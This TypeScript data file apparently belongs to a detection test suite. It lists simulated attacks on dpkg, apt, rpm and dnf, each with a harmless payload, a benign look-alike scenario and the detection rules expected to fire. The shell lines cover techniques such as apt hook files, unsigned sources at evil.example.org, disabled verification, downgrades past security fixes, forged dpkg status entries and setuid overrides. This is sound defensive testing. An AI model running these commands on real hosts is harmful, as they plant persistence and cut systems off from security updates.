// Attacks with harmless payloads by kind, as data: what is done, the ordinary operation that looks nearly alike, and the rules that are
// expected to fire.

import {
  byService,
  daemon as daemonScenario,
  initiator,
  librpmByPython,
  login as loginScenario,
  parents,
  rpmModule,
  rpmRecords,
  type Scenario,
} from './scenarios.ts';

/** An attack. The host, its actors and the directories are those of the weeks before. */
export interface Attack extends Scenario {
  /** The name of its kind. */
  kind: string;
  /** The scenario of the second week that looks nearly alike and must raise no alert. */
  twin: string;
}

/** One kind of attack. */
export interface Kind {
  name: string;
  /** What the attacker does; a line. */
  what: string;
  attacks: readonly Omit<Attack, 'kind'>[];
}

type Expected = Pick<Attack, 'twin'> & Partial<Scenario>;

const login = (id: string, title: string, script: string, { twin, ...more }: Expected): Omit<Attack, 'kind'> => ({
  ...loginScenario(id, title, script, more),
  twin,
});
const daemon = (
  actor: string,
  id: string,
  title: string,
  script: string,
  { twin, ...more }: Expected,
): Omit<Attack, 'kind'> => ({ ...daemonScenario(actor, id, title, script, more), twin });

const scripts = 'unusual-dpkg-execution';
const reads = 'maintainer-script-read-by-interpreter';
const impostor = 'package-tool-impostor';
const command = 'package-tool-given-command';
const hook = 'package-tool-hook-added';
const records = 'dpkg-database-changed-by-other-program';
const unowned = 'maintainer-script-unowned';
const changed = 'maintainer-script-changed-outside-dpkg';
const differs = 'maintainer-script-differs-from-version';
const indicator = 'maintainer-script-with-indicator';
const persistence = 'package-script-added-persistence';
const override = 'package-file-overridden';
const source = 'package-source-added';
const verification = 'package-verification-off';
const unlisted = 'package-file-not-in-lists';
const downgraded = 'package-downgraded';
const locked = 'package-updates-locked';

/** The kinds in the order in which they are enacted: what could disturb others comes last. */
export const kinds: readonly Kind[] = [
  {
    name: 'service',
    what: 'A service that was broken into installs a package',
    attacks: [
      daemon(
        'nginx',
        'web-server',
        "a web server's shell runs dpkg -i; the shell is in the baseline",
        'dpkg -i $DEBS/evil-by-web-server_1.deb; :',
        { twin: 'week-fleet', rules: [initiator, byService] },
      ),
      daemon(
        'php-fpm',
        'apt-by-service',
        'a web application runs apt-get install ./evil.deb',
        'apt-get install $DEBS/evil-by-service-apt_1.deb; :',
        { twin: 'week-fleet-apt', rules: [initiator, byService] },
      ),
      daemon(
        'gitlab-runner',
        'unpack',
        'dpkg --unpack, then --configure -a, by a job',
        'dpkg --unpack $DEBS/evil-by-unpack_1.deb; dpkg --configure -a; :',
        { twin: 'week-fleet-unpack', rules: [initiator, byService] },
      ),
      daemon(
        'monit',
        'linker',
        'dpkg by way of the dynamic linker',
        'for ld in /lib64/ld-linux*.so.* /lib/ld-linux*.so.*; do [ -e $ld ] && break; done; $ld /usr/bin/dpkg -i $DEBS/evil-by-linker_1.deb; :',
        { twin: 'week-fleet', rules: [initiator, byService, scripts] },
      ),
    ],
  },
  {
    name: 'implant',
    what: 'A program in a scratch directory runs a package tool',
    attacks: [
      login(
        'implant',
        'a program in a scratch directory runs dpkg -i',
        'cp /bin/dash implant; ./implant -c "dpkg -i $DEBS/evil-by-implant_1.deb; :"',
        { twin: 'week-updater', rules: [...parents, initiator] },
      ),
      login(
        'implant-bundled',
        'the same with other options: dpkg -BiE',
        'cp /bin/dash implant; ./implant -c "dpkg -BiE $DEBS/evil-by-implant_1.deb; :"',
        { twin: 'week-updater', rules: [...parents, initiator] },
      ),
      login(
        'implant-rpm',
        'the same with rpm -Uvh',
        'cp /bin/dash implant; ./implant -c "rpm --dbpath $RPM_DATABASE --nodeps --replacepkgs -Uvh $RPMS/rpm-evil.rpm; :"',
        { twin: 'week-updater', rules: [...parents, initiator] },
      ),
      login(
        'implant-apt',
        'the same with apt-get install, from a repository',
        'offer 2; cp /bin/dash implant; ./implant -c "apt-get install from-repository; :"',
        { twin: 'week-updater', rules: [...parents, initiator] },
      ),
    ],
  },
  {
    name: 'language',
    what: 'A script of Python or Perl runs dpkg',
    attacks: [
      login(
        'python',
        'python3 /opt/x.py runs dpkg --install; Python is in the baseline',
        '/usr/bin/python3 /opt/x.py dpkg --install $DEBS/evil-by-python_1.deb',
        { twin: 'week-python', rules: [initiator] },
      ),
      login(
        'python-inline',
        'the same, with the program as an argument: python3 -c',
        "/usr/bin/python3 -c 'import subprocess, sys; subprocess.run(sys.argv[1:], check=True)' dpkg -i $DEBS/evil-by-inline_1.deb",
        { twin: 'week-python', rules: [initiator] },
      ),
      login(
        'perl',
        'a script of Perl runs dpkg -i',
        "echo 'exit(system(@ARGV) >> 8);' >x.pl; perl $WORK/x.pl dpkg -i $DEBS/evil-by-perl_1.deb",
        { twin: 'week-python', rules: [...parents, initiator] },
      ),
    ],
  },
  {
    name: 'job',
    what: 'A job of cron, at or anacron installs a package',
    attacks: [
      daemon(
        'cron',
        'cron-job',
        'a cron job runs sh, and that rpm -i; the shell is in the baseline',
        'rpm_i --replacepkgs -i $RPMS/rpm-evil.rpm; :',
        { twin: 'week-vendor-rpm', rules: [initiator] },
      ),
      daemon('atd', 'at-job', 'a job of at runs dpkg -i', 'dpkg -i $DEBS/evil-by-at_1.deb; :', {
        twin: 'week-vendor-rpm',
        rules: [initiator, byService],
      }),
      daemon(
        'anacron',
        'anacron-job',
        'a job of anacron runs apt-get install ./evil.deb',
        'apt-get install $DEBS/evil-by-anacron_1.deb; :',
        { twin: 'week-vendor-rpm', rules: [initiator, byService] },
      ),
    ],
  },
  {
    name: 'script by hand',
    what: "A package's script runs without dpkg",
    attacks: [
      login('sh-script', 'sh runs a postinst by its path', 'sh $INFO/victim.postinst configure; :', {
        twin: 'week-packager',
        rules: [scripts],
      }),
      login('by-hand', 'a postinst is run by hand', '$INFO/viewer.postinst configure; :', {
        twin: 'week-packager',
        rules: [scripts],
      }),
    ],
  },
  {
    name: 'namesake',
    what: "A program with the name of dpkg or debconf runs a package's script",
    attacks: [
      login(
        'fake-dpkg-parent',
        'a program called dpkg runs a maintainer script',
        'mkdir d; cp /bin/dash d/dpkg; d/dpkg -c "$INFO/victim.prerm remove; :"',
        { twin: 'week-namesake', rules: [impostor, scripts, records] },
      ),
      login(
        'fake-dpkg-leader',
        'a session leader called dpkg, and a shell below it',
        'mkdir d; cp /bin/dash d/dpkg; setsid --wait d/dpkg -c "sh -c \\"$INFO/victim.postrm purge; :\\"; :"',
        { twin: 'week-namesake', rules: [impostor, scripts] },
      ),
      login(
        'fake-frontend',
        'a program called frontend runs a maintainer script',
        'mkdir d; cp /bin/dash d/frontend; d/frontend -c "$INFO/victim.preinst install; :"',
        { twin: 'week-namesake', rules: [impostor, scripts] },
      ),
    ],
  },
  {
    name: 'script copied',
    what: "A copy of a package's script runs from elsewhere",
    attacks: [
      login(
        'copy-elsewhere',
        'a copy of a postinst runs from elsewhere',
        'cp $INFO/copied.postinst installer; ./installer configure; :',
        { twin: 'week-same-lines', rules: [scripts] },
      ),
      login(
        'copy-changed',
        'the same with a line added',
        'cp $INFO/copied.postinst installer; echo : >>installer; ./installer configure; :',
        { twin: 'week-same-lines', because: 'with other content it is a script like any other' },
      ),
    ],
  },
  {
    name: 'script read',
    what: "An interpreter gets a package's script, and no argument names it",
    attacks: [
      login('read-sourced', 'sh -c ". SCRIPT"', 'sh -c ". $INFO/reads.preinst; sleep 0.3"', {
        twin: 'week-piped',
        rules: [reads],
      }),
      login('read-redirected', 'sh < SCRIPT', 'sh <$INFO/reads.postinst', { twin: 'week-piped', rules: [reads] }),
      login('read-piped', 'cat SCRIPT | sh', 'cat $INFO/reads.prerm | sh', { twin: 'week-piped', rules: [reads] }),
      login('read-as-text', 'sh -c "$(cat SCRIPT)"', 'sh -c "$(cat $INFO/reads.postrm)"', {
        twin: 'week-piped',
        rules: [reads],
      }),
    ],
  },
  {
    name: 'script changed',
    what: 'The script of an installed package is changed',
    attacks: [
      login(
        'appended',
        "a line is appended to an installed package's postinst",
        'echo "/bin/true planted" >>$INFO/appended.postinst',
        { twin: 'week-upgrade', rules: [changed] },
      ),
      login('appended-offline', 'the same while no agent runs', 'echo "/bin/true planted" >>$INFO/offline.postinst', {
        agentOff: true,
        twin: 'week-offline',
        rules: [changed],
      }),
      login(
        'replaced',
        'another file is moved over a prerm',
        'printf "#!/bin/sh\\n/bin/true planted\\n" >new; chmod 755 new; mv new $INFO/replaced.prerm',
        { twin: 'week-upgrade', rules: [changed] },
      ),
      login(
        'times-restored',
        'a line is appended to a postrm, and its times are put back',
        'touch -r $INFO/restored.postrm times; echo "/bin/true planted" >>$INFO/restored.postrm; touch -r times $INFO/restored.postrm',
        { twin: 'week-upgrade', rules: [changed] },
      ),
    ],
  },
  {
    name: 'script dropped',
    what: 'A script is put where dpkg keeps those of packages',
    attacks: [
      login(
        'dropped',
        'a script is put into dpkg/info for a package that is not installed',
        'printf "#!/bin/sh\\n/bin/true\\n" >$INFO/libnone.postinst; chmod 755 $INFO/libnone.postinst',
        { twin: 'week-note', rules: [unowned] },
      ),
      login(
        'old-mtime',
        'the same, with a modification time of 2001',
        'printf "#!/bin/sh\\n" >x; chmod 755 x; touch -d 2001-02-03 x; cp -p x $INFO/libold.prerm',
        { twin: 'week-note', rules: [unowned] },
      ),
    ],
  },
  {
    name: 'same version',
    what: 'A package is rebuilt with another script under the same version',
    attacks: [
      login(
        'same-version',
        'the same version is installed again with another postinst',
        'as_root dpkg -i $DEBS/same-version_1_other.deb',
        { twin: 'week-again', rules: [differs] },
      ),
    ],
  },
  {
    name: 'tool copied',
    what: 'A copy of dpkg or rpm under another name or path installs',
    attacks: [
      login(
        'renamed',
        'a copy of dpkg under another name installs',
        'cp /usr/bin/dpkg x; ./x -i $DEBS/evil-by-renamed_1.deb',
        { twin: 'week-copied-tools', rules: [impostor, scripts] },
      ),
      login(
        'renamed-bare',
        'the same, with a package that has no scripts',
        'cp /usr/bin/dpkg x; ./x -i $DEBS/evil-by-renamed-bare_1.deb',
        { twin: 'week-copied-tools', rules: [records] },
      ),
      daemon(
        'uwsgi',
        'renamed-with-database',
        'the same, with a database of its own',
        `cp /usr/bin/dpkg updater
    for part in info updates triggers parts alternatives; do mkdir -p db/$part; done; : >db/status; : >db/available
    ./updater --admindir=$WORK/db --log=/dev/null -i $DEBS/evil-by-own-database_1.deb`,
        { twin: 'week-copied-tools', rules: [impostor, initiator] },
      ),
      daemon(
        'redis',
        'rpm-renamed',
        'a copy of rpm under another name installs',
        'cp /usr/bin/rpm updater; ./updater --dbpath $RPM_DATABASE --nodeps -i $RPMS/rpm-marked.rpm',
        { twin: 'week-copied-tools', rules: [impostor, rpmRecords, initiator] },
      ),
      daemon(
        'jetty',
        'dpkg-bound-over',
        'a copy of dpkg is bound over /usr/bin/dpkg in a mount namespace',
        `cp /usr/bin/dpkg dpkg
    unshare --mount sh -c "mount --bind $WORK/dpkg /usr/bin/dpkg; dpkg -i $DEBS/evil-by-cover_1.deb; :"`,
        { twin: 'week-copied-tools', rules: [impostor, initiator] },
      ),
    ],
  },
  {
    name: 'own librpm',
    what: 'A program installs with librpm and starts no rpm',
    attacks: [
      daemon(
        'webapp',
        'librpm',
        "a web application installs with rpm's Python module",
        `${librpmByPython}
    /usr/bin/python3 installer.py $RPM_DATABASE $RPMS/rpm-three.rpm`,
        { twin: 'week-librpm', rules: [initiator, rpmRecords], needs: rpmModule },
      ),
    ],
  },
  {
    name: 'namespace',
    what: 'A process in namespaces of its own installs on the host',
    attacks: [
      daemon(
        'tomcat',
        'databases-covered',
        "a directory is mounted over dpkg's database, and dpkg -i runs in a pid namespace",
        `for part in info updates triggers parts alternatives; do mkdir -p db/$part; done; : >db/status; : >db/available
    unshare --mount --pid --fork sh -c "mount --bind $WORK/db /var/lib/dpkg; dpkg --log=/dev/null -i $DEBS/evil-by-namespace_1.deb; :"`,
        { twin: 'week-namespace', rules: [initiator] },
      ),
      daemon(
        'php-cgi',
        'own-namespace',
        'unshare runs dpkg -i in mount and pid namespaces',
        'unshare --mount --pid --fork dpkg -i $DEBS/evil-by-namespace_1.deb; :',
        { twin: 'week-namespace', rules: [...parents, initiator] },
      ),
    ],
  },
  {
    name: 'command line',
    what: 'A command line makes a package tool run other code',
    attacks: [
      login(
        'apt-hook',
        'apt-get gets dpkg -i as a hook on its command line',
        'as_root apt-get -o "APT::Update::Post-Invoke::=exec dpkg -i $DEBS/evil-by-hook_1.deb" -q update',
        { twin: 'week-options', rules: [command] },
      ),
      login(
        'apt-file-argument',
        'apt-get -c FILE update, with a hook in FILE',
        `echo 'APT::Update::Pre-Invoke { "echo ran >/opt/argument.ran; sleep 0.3"; };' >hook.conf
    apt-get -q -c hook.conf update; [ -s /opt/argument.ran ]`,
        { twin: 'week-options', rules: [command] },
      ),
      login(
        'dpkg-pre-invoke',
        'dpkg --pre-invoke COMMAND -i',
        `as_root dpkg --pre-invoke 'echo ran >/opt/invoke.ran' -i $DEBS/editor_2.deb; [ -s /opt/invoke.ran ]`,
        { twin: 'week-options', rules: [command] },
      ),
      login('rpm-macro', "rpm --eval '%(COMMAND)'", 'rpm --eval "%(echo ran >/opt/eval.ran)"; [ -s /opt/eval.ran ]', {
        twin: 'week-options',
        rules: [command],
      }),
    ],
  },
  {
    name: 'environment',
    what: 'A variable makes a package tool run other code',
    attacks: [
      login(
        'apt-config-variable',
        'APT_CONFIG names a file with a hook',
        `{ cat "$APT_CONFIG"; echo 'APT::Update::Pre-Invoke { "echo ran >/opt/variable.ran; sleep 0.3"; };'; } >hook.conf
    APT_CONFIG=$WORK/hook.conf apt-get -q update; [ -s /opt/variable.ran ]`,
        { twin: 'week-environment', rules: [command] },
      ),
      login(
        'bash-variable',
        "BASH_ENV names a file that a package's script of bash then runs",
        `echo 'echo ran >>/opt/bash.ran' >start.sh
    as_root env BASH_ENV=$WORK/start.sh dpkg -i $DEBS/evil-in-bash_1.deb; [ -s /opt/bash.ran ]`,
        { twin: 'week-environment', rules: [command] },
      ),
    ],
  },
  {
    name: 'hook file',
    what: 'A file makes apt or dpkg run other code each time',
    attacks: [
      login(
        'apt-hook-file-added',
        'a hook in apt.conf.d runs at the next apt-get update',
        `program /opt/hook.sh 'echo ran >>/opt/hook.ran; sleep 0.3'
    echo 'APT::Update::Pre-Invoke { "/opt/hook.sh"; };' >/etc/apt/apt.conf.d/01backdoor
    apt-get -q update; rm /etc/apt/apt.conf.d/01backdoor; [ -s /opt/hook.ran ]`,
        { twin: 'week-apt-settings', rules: [hook] },
      ),
      login(
        'dpkg-hook-file-added',
        'post-invoke in dpkg.cfg.d runs at each dpkg',
        `echo 'post-invoke=sh -c "echo ran >>/opt/dpkg-hook.ran; sleep 0.3"' >/etc/dpkg/dpkg.cfg.d/99-local
    as_root dpkg -i $DEBS/editor_2.deb; rm /etc/dpkg/dpkg.cfg.d/99-local; [ -s /opt/dpkg-hook.ran ]`,
        { twin: 'week-apt-settings', rules: [hook] },
      ),
    ],
  },
  {
    name: 'macro',
    what: 'A macro of rpm or an action of dnf runs other code each time',
    attacks: [
      login(
        'macro-of-host',
        'a macro with a command in /etc/rpm',
        `echo '%_netsharedpath %(sh -c "echo ran >>/opt/macro.ran; sleep 0.3")' >/etc/rpm/macros.local
    as_root rpm --dbpath $RPM_DATABASE --nodeps -U --replacepkgs $RPMS/rpm-one.rpm
    rm /etc/rpm/macros.local; [ -s /opt/macro.ran ]`,
        { twin: 'week-macros', rules: [hook] },
      ),
      login(
        'macro-of-user',
        'a macro with a command in ~/.rpmmacros',
        `echo '%_netsharedpath %(sh -c "echo ran >>/opt/home-macro.ran; sleep 0.3")' >"$HOME/.rpmmacros"
    as_root env "HOME=$HOME" rpm --dbpath $RPM_DATABASE --nodeps -U --replacepkgs $RPMS/rpm-one.rpm
    rm "$HOME/.rpmmacros"; [ -s /opt/home-macro.ran ]`,
        { twin: 'week-macros', rules: [command] },
      ),
      login(
        'dnf-action',
        'a command for each transaction of dnf',
        `echo '*:any:/opt/action.sh' >/etc/dnf/plugins/post-transaction-actions.d/local.action`,
        { twin: 'week-macros', rules: [hook] },
      ),
    ],
  },
  {
    name: 'source added',
    what: 'The host gets a package source or a key of the attacker',
    attacks: [
      login(
        'apt-source',
        'a source without signatures in sources.list.d',
        `echo 'deb [trusted=yes] http://evil.example.org/apt ./' >/etc/apt/sources.list.d/evil.list`,
        { twin: 'week-source-moved', rules: [source] },
      ),
      login(
        'apt-key',
        'a key in trusted.gpg.d',
        `printf '\\230\\006\\004\\000\\000\\000\\000\\001' >/etc/apt/trusted.gpg.d/evil.gpg`,
        { twin: 'week-source-moved', rules: [source] },
      ),
      login(
        'rpm-repository',
        'a repository without signatures in yum.repos.d',
        `printf '[evil]\\nbaseurl=http://evil.example.org/rpm\\ngpgcheck=0\\n' >/etc/yum.repos.d/evil.repo`,
        { twin: 'week-source-moved', rules: [source] },
      ),
    ],
  },
  {
    name: 'verification off',
    what: 'A package is installed with its verification turned off',
    attacks: [
      login(
        'unauthenticated',
        'apt-get --allow-unauthenticated install',
        'as_root apt-get --allow-unauthenticated install $DEBS/evil-unauthenticated_1.deb',
        { twin: 'week-force', rules: [verification] },
      ),
      login(
        'insecure-repositories',
        'apt-get with Acquire::AllowInsecureRepositories',
        'as_root apt-get -o Acquire::AllowInsecureRepositories=on install $DEBS/evil-insecure_1.deb',
        { twin: 'week-force', rules: [verification] },
      ),
      login('no-debsig', 'dpkg --no-debsig -i', 'as_root dpkg --no-debsig -i $DEBS/evil-no-debsig_1.deb', {
        twin: 'week-force',
        rules: [verification],
      }),
    ],
  },
  {
    name: 'package exchanged',
    what: 'A package in the cache of apt is not the one that apt has verified',
    attacks: [
      login(
        'cache-planted',
        'a package is put into the cache of apt and installed from there',
        'cp $DEBS/evil-by-cache_1.deb /var/cache/apt/archives; as_root dpkg -i /var/cache/apt/archives/evil-by-cache_1.deb',
        { twin: 'week-cache', rules: [unlisted] },
      ),
      login(
        'cache-exchanged',
        'a package that apt-get has downloaded is exchanged before its installation',
        `offer 5 copy; as_root apt-get --download-only --reinstall install cached
    cp $DEBS/cached_1_other.deb /var/cache/apt/archives/cached_1_all.deb
    as_root dpkg -i /var/cache/apt/archives/cached_1_all.deb`,
        { twin: 'week-cache', rules: [unlisted] },
      ),
    ],
  },
  {
    name: 'downgrade',
    what: 'An older version replaces a package',
    attacks: [
      login('downgrade', 'dpkg -i of an older version', 'as_root dpkg -i $DEBS/viewer_1.deb', {
        twin: 'week-older-tried',
        rules: [downgraded],
      }),
      login(
        'downgrade-apt',
        'apt-get --allow-downgrades install of an older version',
        'as_root apt-get --allow-downgrades install $DEBS/editor_1.deb',
        { twin: 'week-older-tried', rules: [downgraded] },
      ),
      login('fix-removed', 'dpkg -i of a version before a security update', 'as_root dpkg -i $DEBS/fixed_1.deb', {
        twin: 'week-older-tried',
        rules: ['security-fix-removed'],
      }),
    ],
  },
  {
    name: 'updates blocked',
    what: 'Security updates no longer reach the host',
    attacks: [
      login('held', 'apt-mark hold of a package with a security update', 'as_root apt-mark hold fixable', {
        twin: 'week-hold',
        rules: ['package-held'],
      }),
      login(
        'pinned',
        'a pin keeps a package at a version before its security update',
        `printf 'Package: fixable\\nPin: version 1*\\nPin-Priority: 1001\\n' >/etc/apt/preferences.d/local`,
        { twin: 'week-pin', rules: ['security-update-blocked'] },
      ),
      login(
        'excluded',
        'dnf.conf excludes a package',
        'sed -i "s/^exclude=.*/exclude=old openssl*/" /etc/dnf/dnf.conf',
        { twin: 'week-unlock', rules: [locked] },
      ),
      login('version-locked', 'a version lock of dnf', 'echo "bash-0:5.1-2.*" >>/etc/dnf/plugins/versionlock.list', {
        twin: 'week-unlock',
        rules: [locked],
      }),
      login(
        'security-source',
        'the source of security updates is commented out',
        'sed -i "s/^deb /# deb /" /etc/apt/sources.list.d/security.list',
        { twin: 'week-security-edited', rules: ['security-source-removed'] },
      ),
    ],
  },
  {
    name: 'override',
    what: 'A tool of dpkg puts another program or mode in the place of a file',
    attacks: [
      login(
        'alternative',
        'update-alternatives puts a program in the place of another',
        'program /opt/pager "exit 0"; update-alternatives --install /opt/pager-link evil-pager /opt/pager 999',
        { twin: 'week-overrides', rules: [override] },
      ),
      login(
        'diversion',
        'dpkg-divert moves a file away',
        'echo genuine >/opt/diverted; dpkg-divert --local --rename --divert /opt/diverted.real --add /opt/diverted',
        { twin: 'week-overrides', rules: [override] },
      ),
      login(
        'setuid-mode',
        'dpkg-statoverride makes a file setuid',
        'cp /bin/true /opt/setuid; dpkg-statoverride --update --add root root 4755 /opt/setuid',
        { twin: 'week-overrides', rules: [override] },
      ),
    ],
  },
  {
    name: 'left by a script',
    what: "A package's script writes a unit, a job or a rule of sudo",
    attacks: [
      login('unit-left', 'a postinst writes a systemd unit', 'as_root dpkg -i $DEBS/evil-unit_1.deb', {
        twin: 'week-ships',
        rules: [persistence, indicator],
      }),
      login('job-left', 'a postinst writes a cron job', 'as_root dpkg -i $DEBS/evil-job_1.deb', {
        twin: 'week-ships',
        rules: [persistence, indicator],
      }),
      login('sudo-left', 'a postinst writes a rule of sudo', 'as_root dpkg -i $DEBS/evil-sudo_1.deb', {
        twin: 'week-ships',
        rules: [persistence],
      }),
    ],
  },
  {
    name: 'survivor',
    what: "A package's script leaves a process behind",
    attacks: [
      login(
        'detached',
        'a postinst leaves a shell that installs another package',
        'as_root dpkg -i $DEBS/evil-detached_1.deb; until dpkg -s evil-inner >/dev/null 2>&1; do sleep 0.1; done',
        { twin: 'week-daemon', rules: [initiator, indicator] },
      ),
      login(
        'background',
        'a postinst leaves a program with nohup',
        'as_root dpkg -i $DEBS/evil-background_1.deb; sleep 0.4',
        { twin: 'week-daemon', rules: [indicator] },
      ),
      login(
        'rpm-detached',
        'an rpm scriptlet leaves a child behind',
        'as_root rpm --dbpath $RPM_DATABASE --nodeps -i $RPMS/rpm-detached.rpm; sleep 0.4',
        {
          twin: 'week-daemon',
          because: 'it was installed in the usual way; the hunt lifecycle-script-children lists the child',
        },
      ),
    ],
  },
  {
    name: 'connection',
    what: "A package's script connects to a host of the attacker",
    attacks: [
      login('bash-device', 'a postinst of bash uses /dev/tcp', 'as_root dpkg -i $DEBS/evil-device_1.deb', {
        twin: 'week-text',
        rules: [indicator],
      }),
      login('download', 'a postinst downloads and runs a script', 'as_root dpkg -i $DEBS/evil-download_1.deb', {
        twin: 'week-text',
        rules: [indicator],
      }),
      login('connection', 'a postinst connects with a line of Python', 'as_root dpkg -i $DEBS/evil-connection_1.deb', {
        twin: 'week-text',
        because: 'scripts of honest packages connect, too; the hunt package-script-connections lists the connection',
      }),
    ],
  },
  {
    name: 'usual way',
    what: 'The package comes in the usual way, and only its content is hostile',
    attacks: [
      login(
        'stolen-session',
        "the administrator's own session installs a backdoored package",
        'as_root dpkg -i $DEBS/evil-by-session_1.deb',
        { twin: 'week-su', because: 'only the package differs from the first week' },
      ),
      daemon(
        'cron',
        'vendor-backdoor',
        "the vendor's updater installs a version whose postinst decodes and runs a script",
        '/opt/vendor/update.sh $DEBS/vendor_4.deb',
        { twin: 'week-vendor', rules: [indicator] },
      ),
      login(
        'repository-backdoor',
        'apt-get upgrade brings a version whose postinst adds a cron job',
        'offer 4; as_root apt-get upgrade',
        { twin: 'week-apt', rules: [indicator] },
      ),
    ],
  },
  {
    name: 'no manager',
    what: 'The content of a package is used without a package manager',
    attacks: [
      login('dpkg-deb', 'a package is unpacked without dpkg', 'dpkg-deb -x $DEBS/evil-by-tar_1.deb .', {
        twin: 'week-inspect',
        because: 'no package manager runs, and no package database changes',
      }),
      login(
        'script-taken',
        "a package's postinst is taken out of the archive and run",
        'dpkg-deb -e $DEBS/evil-by-tar_1.deb control; control/postinst configure',
        { twin: 'week-inspect', because: 'the package is not installed, so its script is a script like any other' },
      ),
    ],
  },
  {
    name: 'database',
    what: "A program other than dpkg writes dpkg's database",
    attacks: [
      login(
        'trigger-line',
        'a line written into triggers/File has a postinst run after each installation',
        `file=/var/lib/dpkg/triggers/File; [ ! -e $file ] || cp $file File
    echo '/opt victim/noawait' >>$file; sleep 0.5
    if [ -e File ]; then cp File $file; else rm $file; fi`,
        { twin: 'week-database-tools', rules: [records] },
      ),
      login(
        'forged-list',
        'sed adds a file to the list of a package, so that it looks owned',
        "sed -i '$a /opt/hidden' $INFO/viewer.list",
        { twin: 'week-database-tools', rules: [records] },
      ),
      login(
        'forged-status',
        'tee adds a package to the status file, so that it looks installed',
        `printf '\\nPackage: evil-forged\\nStatus: install ok installed\\nMaintainer: root\\nArchitecture: all\\nVersion: 1\\nDescription: forged\\n' |
    tee -a /var/lib/dpkg/status >/dev/null; dpkg -s evil-forged >/dev/null`,
        { twin: 'week-database-tools', rules: [records] },
      ),
    ],
  },
];

/** The attacks, by kind. */
export const attacks: readonly Attack[] = kinds.flatMap(({ name, attacks: ofKind }) =>
  ofKind.map((attack) => ({ ...attack, kind: name })),
);
